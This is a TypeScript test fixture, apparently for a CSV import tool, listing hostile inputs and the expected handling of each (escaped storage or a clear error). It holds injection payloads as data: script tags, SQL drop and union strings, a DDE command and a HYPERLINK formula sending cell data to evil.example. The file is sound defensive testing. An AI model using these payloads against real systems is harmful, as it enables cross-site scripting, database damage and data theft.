/**
 * Hostile input, as data: what people, spreadsheets and attackers send. Each case says what must happen: a clear
 * error (and nothing written), or the text stored as it is and shown escaped. The corpus test runs every case
 * through the real code paths: the import service the CLI uses, the web import, the web forms and the JSON API.
 */

/** Text payloads that must be stored as typed and shown as text, never run or read as markup or a formula. */
export const TEXT_PAYLOADS: readonly { readonly id: string; readonly text: string }[] = [
  { id: 'script tag', text: '<script>alert("stored-xss")</script>' },
  { id: 'attribute break-out with onerror', text: '"><img src=x onerror=alert(1)>' },
  { id: 'single-quote break-out', text: "'><svg onload=alert(1)>" },
  { id: 'javascript: URL', text: 'javascript:alert(document.cookie)' },
  { id: 'SQL comment injection', text: "'; drop table observations; --" },
  { id: 'SQL union', text: "1' UNION SELECT password_hash FROM users --" },
  { id: 'Excel HYPERLINK formula', text: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' },
  { id: 'DDE command', text: "+cmd|' /C calc'!A0" },
  { id: 'formula that looks like a sum', text: '-2+3' },
  { id: 'at-sign function', text: '@SUM(A1:A9)' },
  { id: 'Nunjucks template syntax', text: '{{ 7*7 }} {% raw %}' },
  { id: 'HTML entity', text: '&lt;b&gt;not bold&lt;/b&gt; &amp;' },
  { id: 'right-to-left override', text: 'Invoice \u202Egnp.exe' },
  { id: 'zero-width joiners and spaces', text: 'Safer\u200B\u200DStreets\u2060' },
  { id: 'combining marks (Zalgo)', text: 'Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o' },
  { id: 'emoji with skin tone and family ZWJ', text: 'Families 👨‍👩‍👧‍👦 and 👍🏽 helped' },
  { id: 'Welsh and Irish letters', text: 'Gwasanaethau ŵ ŷ — Seirbhísí á é í' },
  { id: 'CJK and Arabic', text: '市民サービス خدمات' },
]

/** Figures for an actual, each with what must happen. */
export const FIGURES: readonly { readonly text: string; readonly ok: boolean; readonly why: string }[] = [
  { text: '1e309', ok: false, why: 'an exponent beyond any double' },
  { text: '1e3', ok: false, why: 'an exponent at all' },
  { text: 'NaN', ok: false, why: 'not a number' },
  { text: 'Infinity', ok: false, why: 'infinity' },
  { text: '-Infinity', ok: false, why: 'minus infinity' },
  { text: '1,2,3', ok: false, why: 'commas that are not thousands' },
  { text: '0x1A', ok: false, why: 'hexadecimal' },
  { text: '5.16abc', ok: false, why: 'trailing letters' },
  { text: '٥٫١٦', ok: false, why: 'Arabic-Indic digits' },
  { text: '½', ok: false, why: 'a vulgar fraction' },
  { text: '5.16%', ok: false, why: 'a unit' },
  { text: '-0', ok: true, why: 'minus zero, kept as written' },
  { text: '99999999999999999999999.5', ok: true, why: 'more digits than a double holds, kept exactly' },
  { text: '10,995', ok: true, why: 'Excel thousands' },
]

/** Periods in a query string. */
export const BAD_PERIODS: readonly string[] = [
  '2013/15',
  '2013/14 Q5',
  '2013/14 Q0',
  '2013-13',
  '2013-00',
  '',
  '2013/14 Q2; drop table observations',
  '<script>alert(1)</script>',
  '9999999999/00',
]

/** The indicators header and a valid row, to mutate. */
export const INDICATORS_HEADER =
  'ref,title,theme,frequency,polarity,value_type,unit,accumulation,tolerance_pct,dot_basis'
export const indicatorRow = (ref: string, title: string, theme = 'Hostile theme'): string =>
  [ref, title, theme, 'quarterly', 'higher', 'number', '%', 'point', '10', 'previous']
    .map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell))
    .join(',')
export const OBSERVATIONS_HEADER = 'ref,period,actual,target,note'
export const observationRow = (ref: string, period: string, actual: string, note = ''): string =>
  [ref, period, actual, '45', note]
    .map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell))
    .join(',')

export interface CsvCase {
  readonly id: string
  readonly indicators: Buffer
  readonly observations: Buffer
  /** A problem message expected (the import is refused), or null when it must be stored. */
  readonly error: RegExp | null
  /** For stored cases: the indicator's title as it must be stored. */
  readonly title?: string
  readonly ref?: string
}

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8')
const lines = (...rows: string[]): string => `${rows.join('\n')}\n`
const goodIndicators = lines(INDICATORS_HEADER, indicatorRow('H 1', 'A hostile test measure'))
const goodObservations = lines(OBSERVATIONS_HEADER, observationRow('H 1', '2013/14 Q2', '50'))

/** Windows-1252, as Excel's "CSV (Comma delimited)" writes it: "£" is A3 and "–" is 96, one byte each. */
function windows1252(text: string): Buffer {
  const map: Record<string, number> = { '£': 0xa3, '–': 0x96, '’': 0x92, é: 0xe9 }
  return Buffer.from(Array.from(text, (c) => map[c] ?? c.charCodeAt(0)))
}

function utf16le(text: string, bom: boolean): Buffer {
  return Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, 'utf16le')])
}

export const CSV_CASES: readonly CsvCase[] = [
  ...TEXT_PAYLOADS.map((p, i) => ({
    id: `title: ${p.id}`,
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow(`T ${i}`, p.text))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow(`T ${i}`, '2013/14 Q2', '50', p.text))),
    error: null,
    title: p.text,
    ref: `T ${i}`,
  })),
  {
    id: 'theme holding a script (charts draw theme names)',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('TH 1', 'Measure', '<script>alert("theme")</script>'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('TH 1', '2013/14 Q2', '50'))),
    error: null,
    title: 'Measure',
    ref: 'TH 1',
  },
  {
    id: 'ref holding markup',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('<b>R</b> 1', 'Measure'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('<b>R</b> 1', '2013/14 Q2', '50'))),
    error: null,
    title: 'Measure',
    ref: '<b>R</b> 1',
  },
  {
    id: 'Windows-1252 £ and – from Excel',
    indicators: windows1252(lines(INDICATORS_HEADER, indicatorRow('W 1', 'Spend in £ – per head'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('W 1', '2013/14 Q2', '50'))),
    error: null,
    title: 'Spend in £ – per head',
    ref: 'W 1',
  },
  {
    id: 'Windows-1252 é and ’ in a title',
    indicators: windows1252(lines(INDICATORS_HEADER, indicatorRow('W 2', 'Café users’ satisfaction'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('W 2', '2013/14 Q2', '50'))),
    error: null,
    title: 'Café users’ satisfaction',
    ref: 'W 2',
  },
  {
    id: 'Windows-1252 with a byte it leaves undefined',
    indicators: Buffer.concat([
      windows1252(lines(INDICATORS_HEADER, indicatorRow('W 5', 'Spend in £ per head'))),
      Buffer.from([0x57, 0x20, 0x36, 0x2c, 0x81, 0x0a]),
    ]),
    observations: utf8(goodObservations),
    error: /line 3 has a control character \(U\+0081\)/i,
  },
  {
    id: 'UTF-8 and Windows-1252 mixed in one file',
    indicators: Buffer.concat([
      utf8(lines(INDICATORS_HEADER, indicatorRow('W 3', 'Spend in £ per head'))),
      windows1252(lines(indicatorRow('W 4', 'Spend in £ per visit'))),
    ]),
    observations: utf8(goodObservations),
    error: /mixes UTF-8 with another encoding.*line 3/,
  },
  {
    id: 'Windows-1252 in the observations file only',
    indicators: utf8(goodIndicators),
    observations: windows1252(lines(OBSERVATIONS_HEADER, observationRow('H 1', '2013/14 Q2', '50', 'Cost £5'))),
    error: null,
    title: 'A hostile test measure',
    ref: 'H 1',
  },
  {
    id: 'UTF-8 with a byte-order mark and CRLF (Excel CSV UTF-8)',
    indicators: Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      utf8(`${INDICATORS_HEADER}\r\n${indicatorRow('B 1', 'Spend in £ – per head')}\r\n`),
    ]),
    observations: utf8(`${OBSERVATIONS_HEADER}\r\n${observationRow('B 1', '2013/14 Q2', '50')}\r\n`),
    error: null,
    title: 'Spend in £ – per head',
    ref: 'B 1',
  },
  {
    id: 'UTF-16 with a byte-order mark, commas',
    indicators: utf16le(lines(INDICATORS_HEADER, indicatorRow('U 1', 'Spend in £ – per head')), true),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('U 1', '2013/14 Q2', '50'))),
    error: null,
    title: 'Spend in £ – per head',
    ref: 'U 1',
  },
  {
    id: 'UTF-16 tab-separated (Excel Unicode Text)',
    indicators: utf16le(lines(INDICATORS_HEADER.replaceAll(',', '\t'), 'U 2\tTitle\tTheme'), true),
    observations: utf8(goodObservations),
    error: /separated by tabs/,
  },
  {
    id: 'UTF-16 without a byte-order mark (NUL bytes)',
    indicators: utf16le(goodIndicators, false),
    observations: utf8(goodObservations),
    error: /control character \(U\+0000\)/,
  },
  {
    id: 'bare CR line endings (old Mac Excel)',
    indicators: utf8(`${INDICATORS_HEADER}\r${indicatorRow('CR 1', 'Old Mac file')}\r`),
    observations: utf8(`${OBSERVATIONS_HEADER}\r${observationRow('CR 1', '2013/14 Q2', '50')}\r`),
    error: null,
    title: 'Old Mac file',
    ref: 'CR 1',
  },
  {
    id: 'quoted newlines in a title',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('Q 1', 'First line\nsecond line\r\nthird'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('Q 1', '2013/14 Q2', '50'))),
    error: null,
    title: 'First line\nsecond line\r\nthird',
    ref: 'Q 1',
  },
  {
    id: 'an unclosed quote',
    indicators: utf8(lines(INDICATORS_HEADER, 'X 1,"Never closed,Theme,quarterly,higher,number,%,point,10,previous')),
    observations: utf8(goodObservations),
    error: /not valid CSV/,
  },
  {
    id: 'a missing column',
    indicators: utf8(
      lines(INDICATORS_HEADER.replace(',dot_basis', ''), 'X 2,T,Theme,quarterly,higher,number,%,point,10'),
    ),
    observations: utf8(goodObservations),
    error: /"dot_basis" is missing/,
  },
  {
    id: 'an unknown column',
    indicators: utf8(lines(`${INDICATORS_HEADER},password`, `${indicatorRow('X 3', 'T')},hunter2`)),
    observations: utf8(goodObservations),
    error: /"password" is not a known column/,
  },
  {
    id: 'a duplicated header',
    indicators: utf8(lines(`${INDICATORS_HEADER},title`, `${indicatorRow('X 4', 'First')},Second`)),
    observations: utf8(goodObservations),
    error: /"title" appears more than once/,
  },
  {
    id: 'a row with too many fields',
    indicators: utf8(lines(INDICATORS_HEADER, `${indicatorRow('X 5', 'T')},extra`)),
    observations: utf8(goodObservations),
    error: /The row has 11 fields but the header has 10/,
  },
  {
    id: 'headers only',
    indicators: utf8(lines(INDICATORS_HEADER)),
    observations: utf8(lines(OBSERVATIONS_HEADER)),
    error: /header but no indicators/,
  },
  { id: 'an empty file', indicators: utf8(''), observations: utf8(goodObservations), error: /The file is empty/ },
  {
    id: 'a binary file (a PNG)',
    indicators: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]),
    observations: utf8(goodObservations),
    error: /control character/,
  },
  {
    id: 'a NUL byte in a title',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('N 1', 'Before\u0000after'))),
    observations: utf8(goodObservations),
    error: /line 2 has a control character \(U\+0000\)/i,
  },
  {
    id: 'an escape sequence for terminals',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('N 2', 'Title \u001b]0;owned\u0007'))),
    observations: utf8(goodObservations),
    error: /control character \(U\+001B\)/,
  },
  {
    id: 'a lone surrogate written as CESU bytes',
    indicators: Buffer.concat([
      utf8(`${INDICATORS_HEADER}\nN 3,Bad `),
      Buffer.from([0xed, 0xa0, 0x80]),
      utf8(',T,quarterly,higher,number,%,point,10,previous\n'),
    ]),
    observations: utf8(goodObservations),
    error: /its UTF-8 is damaged: line 2/,
  },
  {
    id: 'NFD é in the observations, NFC in the indicators',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('Caf\u00e9 1', 'Accented ref'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('Cafe\u0301 1', '2013/14 Q2', '50'))),
    error: null,
    title: 'Accented ref',
    ref: 'Caf\u00e9 1',
  },
  {
    id: 'a homoglyph ref (Cyrillic Н) in the observations',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('HG 1', 'Homoglyph'))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('\u041dG 1', '2013/14 Q2', '50'))),
    error: /"НG 1" is not an indicator/,
  },
  {
    id: 'a title at its limit (500 characters, with emoji)',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('L 1', `Long ${'😀'.repeat(495)}`))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('L 1', '2013/14 Q2', '50'))),
    error: null,
    title: `Long ${'😀'.repeat(495)}`,
    ref: 'L 1',
  },
  {
    id: 'a very long title (200,000 characters)',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('L 1', `Long ${'x'.repeat(200_000)}`))),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('L 1', '2013/14 Q2', '50'))),
    error: /line 2, column title: The title must be 500 characters or fewer: this one has 200,005\./,
  },
  ...BAD_PERIODS.filter((p) => !p.startsWith('<')).map((period) => ({
    id: `period "${period}"`,
    indicators: utf8(goodIndicators),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('H 1', period, '50'))),
    error: /is not a (financial year|period)|"" is not a period/,
  })),
  ...FIGURES.map((f) => ({
    id: `actual ${f.text}: ${f.why}`,
    indicators: utf8(goodIndicators),
    observations: utf8(lines(OBSERVATIONS_HEADER, observationRow('H 1', '2013/14 Q2', f.text))),
    error: f.ok ? null : /is not a number/,
    ...(f.ok ? { title: 'A hostile test measure', ref: 'H 1' } : {}),
  })),
  {
    id: 'a negative tolerance',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('H 1', 'T').replace(',10,', ',-5,'))),
    observations: utf8(goodObservations),
    error: /"-5" is not a tolerance/,
  },
  {
    id: 'one bad row among good ones: nothing is written',
    indicators: utf8(lines(INDICATORS_HEADER, indicatorRow('G 1', 'Good'), indicatorRow('G 2', 'Good too'))),
    observations: utf8(
      lines(OBSERVATIONS_HEADER, observationRow('G 1', '2013/14 Q2', '50'), observationRow('G 2', '2013/14 Q2', 'NaN')),
    ),
    error: /line 3, column actual/,
  },
]
